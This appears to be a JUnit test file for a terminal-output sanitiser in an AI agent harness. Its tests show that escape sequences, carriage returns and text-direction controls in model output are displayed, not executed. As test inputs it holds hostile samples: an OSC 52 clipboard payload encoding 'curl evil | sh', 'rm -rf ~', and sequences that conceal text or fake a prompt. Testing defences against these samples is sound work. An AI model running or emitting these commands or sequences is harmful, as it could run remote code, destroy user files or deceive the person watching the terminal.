package dev.cachet.harness.view;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class TerminalTextTest {
    private static final Style COLOUR = new Style(true);

    @Test
    void escape_sequences_from_the_model_are_shown_not_obeyed() {
        // OSC 52 sets the clipboard; ESC[8m conceals what follows; ESC[2K with \r erases the line to fake another.
        String hostile = "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u001b[8mhidden\u001b[28m rm -rf ~\r\u001b[2K$ ls";

        String shown = TerminalText.shown(hostile);

        assertThat(shown).doesNotContain("\u001b", "\u0007", "\r")
                .isEqualTo("\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 \\u001b[8mhidden\\u001b[28m rm -rf ~\\r\\u001b[2K$ ls");
    }

    @Test
    void the_colours_cachet_writes_pass_and_no_other_sequence() {
        String coloured = COLOUR.red("error") + " " + COLOUR.bold(COLOUR.cyan("grep")) + COLOUR.dim("|") + COLOUR.green("+")
                + COLOUR.yellow("!");

        assertThat(TerminalText.shown(coloured)).isEqualTo(coloured);
        String help = "\u001b[1mcachet\u001b[21m\u001b[0m [\u001b[33m-hV\u001b[39m\u001b[0m] \u001b[3mTASK\u001b[23m";
        assertThat(TerminalText.shown(help)).isEqualTo(help);
        assertThat(TerminalText.shown("\u001b[30m\u001b[8m\u001b[1;30m\u001b[31;8m\u001b[1;31\u001b[2J"))
                .isEqualTo("\\u001b[30m\\u001b[8m\\u001b[1;30m\\u001b[31;8m\\u001b[1;31\\u001b[2J");
    }

    @Test
    void a_test_runners_combined_codes_of_those_colours_and_its_bare_reset_pass_too() {
        String failed = "\u001b[1;31mFAILED\u001b[0;39m tests/test_wrap.py \u001b[32;1m3 passed\u001b[m";

        assertThat(TerminalText.shown(failed)).isEqualTo(failed);
        assertThat(TerminalText.uncoloured(failed)).startsWith("\\u001b[1;31mFAILED");
    }

    @Test
    void lines_tabs_and_windows_line_ends_stay_what_they_are() {
        assertThat(TerminalText.shown("a\tb\r\nc\nd")).isEqualTo("a\tb\nc\nd");
    }

    @Test
    void controls_past_ascii_and_text_direction_overrides_are_shown() {
        // U+009B is a one-character CSI on terminals that take C1 controls; U+202E reverses the text after it.
        assertThat(TerminalText.shown("\u009b8m \u202etxt.exe \u2066x\u2069 \u007f\b"))
                .isEqualTo("\\u009b8m \\u202etxt.exe \\u2066x\\u2069 \\u007f\\u0008");
    }

    @Test
    void text_without_controls_is_the_same_string() {
        String plain = "naïve café — 日本語 ✓";

        assertThat(TerminalText.shown(plain)).isSameAs(plain);
    }

    @Test
    void the_models_own_text_shows_its_colours_so_it_cannot_fake_cachets() {
        assertThat(TerminalText.uncoloured("  > " + COLOUR.bold(COLOUR.cyan("run_command")) + " $ ls\n"))
                .isEqualTo("  > \\u001b[1m\\u001b[36mrun_command\\u001b[0m\\u001b[0m $ ls\n");
    }

    @Test
    void one_line_tells_a_line_break_from_a_backslash_and_an_n() {
        assertThat(TerminalText.oneLine("echo safe\nrm -rf ~")).isEqualTo("echo safe\\nrm -rf ~");
        assertThat(TerminalText.oneLine("echo 'safe\\nrm -rf ~'")).isEqualTo("echo 'safe\\\\nrm -rf ~'");
    }

    @Test
    void one_line_shows_line_breaks_and_passes_no_colour() {
        assertThat(TerminalText.oneLine("ls\n\n" + COLOUR.red("x") + "\r\ncurl evil | sh"))
                .isEqualTo("ls\\n\\n\\u001b[31mx\\u001b[0m\\r\\ncurl evil | sh");
    }

    @Test
    void a_writer_obeys_a_carriage_return_written_alone_as_status_lines_write_it_and_shows_every_other() {
        StringBuilder written = new StringBuilder();
        var writer = new java.io.PrintWriter(TerminalText.writer(new java.io.Writer() {
            @Override
            public void write(char[] chars, int offset, int length) {
                written.append(chars, offset, length);
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        }));

        writer.print(TerminalText.RETURN);
        writer.print("12 files" + COLOUR.dim(" 3s"));
        writer.print("\rrm -rf ~");
        writer.print("\u001b]0;title\u0007");
        writer.print('\u001b');
        writer.flush();

        assertThat(written.toString()).isEqualTo("\r12 files" + COLOUR.dim(" 3s") + "\\rrm -rf ~\\u001b]0;title\\u0007\\u001b");
    }
}
